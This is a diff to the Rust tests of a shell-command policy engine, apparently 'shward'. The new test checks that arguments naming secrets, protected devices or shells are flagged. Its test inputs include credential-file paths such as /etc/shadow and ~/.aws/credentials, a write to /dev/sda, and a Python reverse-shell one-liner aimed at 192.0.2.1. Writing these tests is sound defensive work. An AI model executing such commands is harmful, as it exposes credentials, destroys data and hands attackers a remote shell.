@@ -240,6 +240,7 @@ fn every_rule_is_met_by_some_effect() {
     let mut met: Vec<&str> = table().into_iter().map(|(_, _, _, rule)| rule).collect();
     // Rules on programs, not effects, and the rule of another profile, have tests of their own.
     met.extend(["firewall-controlled", "miner", "read-only"]);
+    met.extend(["reverse-shell", "secret-named", "protected-named", "shell-named"]);
     for rule in rules() {
         assert!(met.contains(&rule.id), "{} is met by no row", rule.id);
     }
@@ -354,9 +355,9 @@ fn the_grant_is_no_wider_than_the_plan() {
     assert_eq!(grant(connect("example.com", Origins::NONE)).network, shward_policy::Network::None);
 }
 
-#[test]
-fn programs_that_no_effect_tells_of_are_named() {
-    let word = |text: &'static str| Field {
+/// The verdict on one program, of which one effect is known.
+fn verdict_on(argv: &[&'static str], kind: EffectKind<'static>) -> Verdict {
+    let word = |text: &&'static str| Field {
         value: Value {
             pieces: Box::leak(Box::new([Piece::Text(text.as_bytes())])),
             origins: Origins::LITERAL,
@@ -364,6 +365,24 @@ fn programs_that_no_effect_tells_of_are_named() {
         span: Span::new(0, 1),
         many: false,
     };
+    let argv: Vec<Field<'_>> = argv.iter().map(word).collect();
+    let invocation = Invocation {
+        program: argv.first().and_then(Field::known),
+        argv: &argv,
+        cwd: None,
+        env: &[],
+        stdin: Origins::NONE,
+        certain: true,
+        builtin: false,
+        span: Span::new(0, 1),
+    };
+    let effects = [Effect { invocation: Some(0), ..effect(kind) }];
+    let plan = Plan { invocations: &[invocation], effects: &effects, refused: None, notes: &[] };
+    decide(&Policy::default(), &plan, &context(true))
+}
+
+#[test]
+fn programs_that_no_effect_tells_of_are_named() {
     for (argv, rule) in [
         (&["shward", "approve", "42"] as &[&'static str], "firewall-controlled"),
         (&["/usr/bin/shward", "--json", "policy", "trust"], "firewall-controlled"),
@@ -372,21 +391,46 @@ fn programs_that_no_effect_tells_of_are_named() {
         (&["./XMRig"], "miner"),
         (&["ls", "shward"], ""),
     ] {
-        let argv: Vec<Field<'_>> = argv.iter().map(|text| word(text)).collect();
-        let invocation = Invocation {
-            program: argv[0].known(),
-            argv: &argv,
-            cwd: None,
-            env: &[],
-            stdin: Origins::NONE,
-            certain: true,
-            builtin: false,
-            span: Span::new(0, 1),
-        };
-        let plan = Plan { invocations: &[invocation], effects: &[], refused: None, notes: &[] };
-        let verdict = decide(&Policy::default(), &plan, &context(true));
-        let found = verdict.findings().first().map_or("", |finding| finding.rule);
-        assert_eq!(found, rule, "{argv:?}");
+        let verdict = verdict_on(argv, read(at(Workspace, "/home/u/proj/x")));
+        assert_eq!(verdict.findings().first().map_or("", |finding| finding.rule), rule, "{argv:?}");
         assert_eq!(verdict.decision() == Deny, !rule.is_empty());
     }
+}
+
+#[test]
+fn what_is_named_to_the_unknown_counts() {
+    let long: &'static str = Box::leak("x ".repeat(100_000).into_boxed_str());
+    for (argv, rule) in [
+        (&["frobnicate", "notes.txt"] as &[&'static str], ""),
+        (&["frobnicate", "/etc/hosts", "https://example.com/x"], ""),
+        (&["frobnicate", "/home/u/.ssh/id_rsa"], "secret-named"),
+        (&["frobnicate", "--in=/usr/../etc/shadow"], "secret-named"),
+        (&["frobnicate", "@~/.netrc"], "secret-named"),
+        (&["frobnicate", ".env"], "secret-named"),
+        (&["frobnicate", "print(open('/root/.aws/credentials').read())"], "secret-named"),
+        (&["frobnicate", "-o", "/home/u/.bashrc"], "protected-named"),
+        (&["frobnicate", "/dev/sda"], "protected-named"),
+        (&["frobnicate", "/dev/null"], ""),
+        (&["frobnicate", "--exec", "/bin/sh"], "shell-named"),
+        (&["frobnicate", "s=fsockopen('192.0.2.1',1);exec('/bin/sh -i <&3')"], "reverse-shell"),
+        (&["frobnicate", long], "protected-named"),
+    ] {
+        for kind in [execute(at(Unknown, "frobnicate")), unknown(Reason::Option(b"--in"))] {
+            let verdict = verdict_on(argv, kind);
+            assert_eq!(
+                verdict.findings().first().map_or("", |finding| finding.rule),
+                rule,
+                "{argv:?} {kind:?}"
+            );
+        }
+        // The project's own programs, and what is understood, may be told such names.
+        for kind in
+            [execute(at(Workspace, "/home/u/proj/frobnicate")), EffectKind::List { target: at(Secret, "/x") }]
+        {
+            assert_eq!(verdict_on(argv, kind).decision(), Allow, "{argv:?} {kind:?}");
+        }
+    }
+    let text = Some(b"open('/etc/shadow')" as &[u8]);
+    let code = EffectKind::Code { language: "python", text, origin: Origins::LITERAL, source: None };
+    assert_eq!(verdict_of(Profile::Workspace, &[effect(code)], true).findings()[0].rule, "secret-named");
 }
